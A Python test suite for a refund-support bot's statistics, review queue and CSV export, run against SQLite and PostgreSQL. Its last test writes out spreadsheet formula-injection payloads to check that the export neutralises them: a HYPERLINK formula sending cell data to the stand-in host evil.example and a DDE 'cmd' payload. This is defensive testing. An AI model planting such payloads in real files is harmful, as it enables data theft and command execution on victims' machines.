"""Support statistics, the queue and the CSV export on a real SQLite file and on PostgreSQL."""

import csv
import io
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

from handlers.support.reports import CSV_COLUMNS, build_stats, export_csv
from storage.database import Database
from storage.models import Refund, Ticket, TicketAudit
from storage.support_queries import audit_since, refunds_of, tickets_created_since, tickets_needing_a_person
from storage.tickets import add_ticket

NOW = datetime(2026, 11, 26, 8, 0, tzinfo=UTC)
SHANGHAI = ZoneInfo("Asia/Shanghai")
# Three days in Shanghai: 11-24, 11-25, 11-26 local, i.e. from 2026-11-23 16:00 UTC.
PERIOD_START = datetime(2026, 11, 23, 16, 0, tzinfo=UTC)
TRICKY_NOTE = '请提供截图, please\nsay "which card"'


@dataclass
class Story:
    """A ticket to file: when, how it was filed, what happened next, and its refund."""

    reference: str
    created_at: datetime
    filed_as: str
    steps: list[tuple[str, str, timedelta, str]] = field(default_factory=list)
    amount_minor: int = 9900
    currency: str = "CNY"
    escalated: bool = False
    refund_status: str | None = None
    landed_after: timedelta | None = None


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=UTC)


def approve_and_pay(first_actor: str, after: timedelta) -> list[tuple[str, str, timedelta, str]]:
    return [(first_actor, "approved", after, ""), ("policy:refund", "refund_pending", after, "")]


STORIES = [
    # Filed in the period (Shanghai days), deliberately not in order of creation.
    Story("RF-T6", at(26, 6), "verified", currency="JPY", amount_minor=1200, refund_status="failed",
          steps=[*approve_and_pay("policy:auto-approve", timedelta(minutes=2)),
                 ("merchant:webhook", "refund_failed", timedelta(hours=1), "card closed")]),
    Story("RF-T1", PERIOD_START, "verified", escalated=True, refund_status="succeeded",
          landed_after=timedelta(hours=10),
          steps=[*approve_and_pay("policy:auto-approve", timedelta(0)),
                 ("ledger:settlement", "refunded", timedelta(hours=10), "")]),
    Story("RF-T2", at(24, 18), "needs_review", refund_status="succeeded", landed_after=timedelta(hours=30),
          steps=[*approve_and_pay("agent:42", timedelta(hours=3)),
                 ("operator:cli", "refunded", timedelta(hours=30), "")]),
    Story("RF-T3", at(25, 1), "verified"),
    Story("RF-T4", at(25, 3), "needs_review",
          steps=[("agent:42", "needs_info", timedelta(hours=1), TRICKY_NOTE)]),
    Story("RF-T5", at(25, 20), "verified", escalated=True, refund_status="pending",
          steps=approve_and_pay("policy:auto-approve", timedelta(minutes=5))),
    Story("RF-T7", at(26, 7), "verified", refund_status="pending",
          steps=approve_and_pay("policy:auto-approve", timedelta(minutes=1))),
    Story("RF-T8", at(24, 5), "needs_review", steps=[("payer:7", "cancelled", timedelta(hours=1), "")]),
    # Filed before the period: one minute before its first midnight, and days earlier.
    Story("RF-OLD", PERIOD_START - timedelta(minutes=1), "verified", refund_status="succeeded",
          landed_after=timedelta(hours=1),
          steps=[*approve_and_pay("agent:1", timedelta(minutes=30)),
                 ("ledger:settlement", "refunded", timedelta(hours=1), "")]),
    Story("RF-T9", at(20, 9), "needs_review"),
]


async def tell(db: Database, story: Story) -> None:
    """File the ticket as the payer, then replay its steps and its refund."""
    async with db.transaction() as session:
        ticket = await add_ticket(session, ticket=ticket_of(story), matches=[], actor="payer:7",
                                  now=story.created_at)
        previous = story.filed_as
        for actor, to_status, after, note in story.steps:
            session.add(TicketAudit(ticket_id=ticket.id, actor=actor, from_status=previous,
                                    to_status=to_status, note=note, at=story.created_at + after))
            previous = to_status
        ticket.status = previous
        if story.refund_status:
            session.add(refund_of(story, ticket_id=ticket.id))


def ticket_of(story: Story) -> Ticket:
    return Ticket(
        reference=story.reference, user_id=7, chat_id=7, locale="zh", order_id=f"O-{story.reference}",
        amount_minor=story.amount_minor, currency=story.currency, paid_at=story.created_at,
        status=story.filed_as, report_key=story.reference, created_at=story.created_at,
        updated_at=story.created_at,
        escalated_at=story.created_at + timedelta(days=1) if story.escalated else None,
    )


def refund_of(story: Story, *, ticket_id: int) -> Refund:
    landed_at = story.created_at + story.landed_after if story.landed_after is not None else None
    return Refund(
        ticket_id=ticket_id, reference=story.reference, transaction_id=f"TX-{story.reference}",
        amount_minor=story.amount_minor, currency=story.currency, provider="ledger",
        status=story.refund_status, bank_reference=f"BANK-{story.reference}", landed_at=landed_at,
        created_at=story.created_at, updated_at=story.created_at,
    )


async def tell_all(db: Database) -> None:
    for story in STORIES:
        await tell(db, story)


async def test_stats_count_only_tickets_filed_in_the_period(db):
    await tell_all(db)
    async with db.transaction() as session:
        report = await build_stats(session, days=3, now=NOW, zone=SHANGHAI)
    assert report.days == 3
    assert report.since == PERIOD_START
    assert report.filed == 8
    assert report.by_status == {"verified": 1, "needs_info": 1, "refund_pending": 2, "refunded": 2,
                                "refund_failed": 1, "cancelled": 1}
    assert list(report.by_status) == ["verified", "needs_info", "refund_pending", "refunded", "refund_failed",
                                      "cancelled"]
    assert report.duplicates_confirmed == 5  # T1, T3, T5, T6, T7 were filed as verified
    assert report.refunds_landed == 2  # T1 and T2; RF-OLD landed too but was filed before the period


async def test_stats_medians_and_days(db):
    await tell_all(db)
    async with db.transaction() as session:
        report = await build_stats(session, days=3, now=NOW, zone=SHANGHAI)
    # First agent/policy step: 0, 1m, 2m, 5m, 1h, 3h (T3 untouched, T8 only by its payer).
    assert report.median_first_action == timedelta(minutes=3, seconds=30)
    assert report.median_time_to_landing == timedelta(hours=20)  # 10h and 30h
    # T2 was filed on 11-24 in UTC but 11-25 in Shanghai.
    assert report.per_day == [
        (date(2026, 11, 24), 2, timedelta(hours=10)),
        (date(2026, 11, 25), 3, timedelta(hours=30)),
        (date(2026, 11, 26), 3, None),
    ]


async def test_stats_of_an_empty_period(db):
    async with db.transaction() as session:
        report = await build_stats(session, days=2, now=NOW, zone=SHANGHAI)
    assert (report.filed, report.duplicates_confirmed, report.refunds_landed) == (0, 0, 0)
    assert report.by_status == {}
    assert report.median_first_action is None and report.median_time_to_landing is None
    assert report.per_day == [(date(2026, 11, 25), 0, None), (date(2026, 11, 26), 0, None)]


async def test_queue_holds_what_needs_a_person_oldest_first(db):
    await tell_all(db)
    async with db.transaction() as session:
        queue = await tickets_needing_a_person(session)
    # Not T1 (refunded, though escalated), T2/OLD (refunded), T7 (pending, not overdue), T8 (cancelled).
    assert [t.reference for t in queue] == ["RF-T9", "RF-T3", "RF-T4", "RF-T5", "RF-T6"]


async def test_period_queries_start_at_since(db):
    await tell_all(db)
    async with db.transaction() as session:
        tickets = await tickets_created_since(session, since=PERIOD_START)
        audit = await audit_since(session, since=PERIOD_START)
        refunds = await refunds_of(session, ticket_ids=[t.id for t in tickets])
        no_refunds = await refunds_of(session, ticket_ids=[])
    by_id = {t.id: t.reference for t in tickets}
    assert [t.reference for t in tickets] == ["RF-T1", "RF-T8", "RF-T2", "RF-T3", "RF-T4", "RF-T5", "RF-T6",
                                              "RF-T7"]
    assert {row.ticket_id for row in audit} == set(by_id)
    assert [(row.ticket_id, row.id) for row in audit] == sorted((row.ticket_id, row.id) for row in audit)
    assert sorted(by_id[r.ticket_id] for r in refunds) == ["RF-T1", "RF-T2", "RF-T5", "RF-T6", "RF-T7"]
    assert no_refunds == []


def parse_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    return list(reader)


async def test_csv_has_a_row_per_audit_entry(db):
    await tell_all(db)
    async with db.transaction() as session:
        rows = parse_csv(await export_csv(session, days=3, now=NOW, zone=SHANGHAI))
    # 1 filing row per ticket plus its steps: T1 3, T2 3, T3 0, T4 1, T5 2, T6 3, T7 2, T8 1.
    assert len(rows) == 8 + 15
    assert "RF-OLD" not in {row["reference"] for row in rows}
    assert [(r["actor"], r["from_status"], r["to_status"]) for r in rows if r["reference"] == "RF-T2"] == [
        ("payer:7", "", "needs_review"),
        ("agent:42", "needs_review", "approved"),
        ("policy:refund", "approved", "refund_pending"),
        ("operator:cli", "refund_pending", "refunded"),
    ]


async def test_csv_fields_and_tricky_text_round_trip(db):
    await tell_all(db)
    async with db.transaction() as session:
        rows = parse_csv(await export_csv(session, days=3, now=NOW, zone=SHANGHAI))
    [asked] = [r for r in rows if r["to_status"] == "needs_info"]
    assert asked["note"] == TRICKY_NOTE
    assert asked["reference"] == "RF-T4" and asked["status"] == "needs_info" and asked["refund_status"] == ""
    landed = [r for r in rows if r["reference"] == "RF-T1"][-1]
    assert landed == {
        "reference": "RF-T1", "order_id": "O-RF-T1", "user_id": "7", "amount": "99.00", "currency": "CNY",
        "status": "refunded", "created_at": "2026-11-23T16:00:00+00:00",
        "event_at": "2026-11-24T02:00:00+00:00",
        "actor": "ledger:settlement", "from_status": "refund_pending", "to_status": "refunded", "note": "",
        "refund_status": "succeeded", "refund_landed_at": "2026-11-24T02:00:00+00:00",
        "bank_reference": "BANK-RF-T1",
    }
    assert {r["amount"] for r in rows if r["reference"] == "RF-T6"} == {"1200"}


async def test_csv_period_defaults_to_utc_days(db):
    await tell_all(db)
    async with db.transaction() as session:
        rows = parse_csv(await export_csv(session, days=3, now=NOW))
    # From 2026-11-24 00:00 UTC: T1 (11-23 16:00 UTC) falls out.
    assert {r["reference"] for r in rows} == {"RF-T2", "RF-T3", "RF-T4", "RF-T5", "RF-T6", "RF-T7", "RF-T8"}


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Check refund")'


async def test_csv_cells_that_could_run_as_formulas_are_neutralised(db):
    hostile = Story("RF-EVIL", at(25, 9), "needs_review", steps=[
        ("agent:42", "needs_info", timedelta(hours=1), "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("payer:7", "needs_review", timedelta(hours=2), "+1 555 0100"),
        ("agent:42", "approved", timedelta(hours=3), "-2+3"),
        ("policy:refund", "refund_pending", timedelta(hours=4), "\tTAB"),
        ("merchant:webhook", "refund_failed", timedelta(hours=5), "\rCR"),
    ])
    await tell(db, hostile)
    async with db.transaction() as session:
        ticket = await session.get(Ticket, 1)
        ticket.order_id = HYPERLINK  # a payer-typed order number (parsing refuses this one today)
        session.add(ticket)
    async with db.transaction() as session:
        rows = parse_csv(await export_csv(session, days=3, now=NOW, zone=SHANGHAI))
    assert {r["order_id"] for r in rows} == {"'" + HYPERLINK}
    assert [r["note"] for r in rows] == [
        "filed", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1 555 0100", "'-2+3", "'\tTAB", "'\rCR",
    ]
    # what the bot itself writes stays as it was: numbers stay numbers, times stay times
    assert {(r["user_id"], r["amount"], r["created_at"]) for r in rows} == {
        ("7", "99.00", "2026-11-25T09:00:00+00:00")
    }
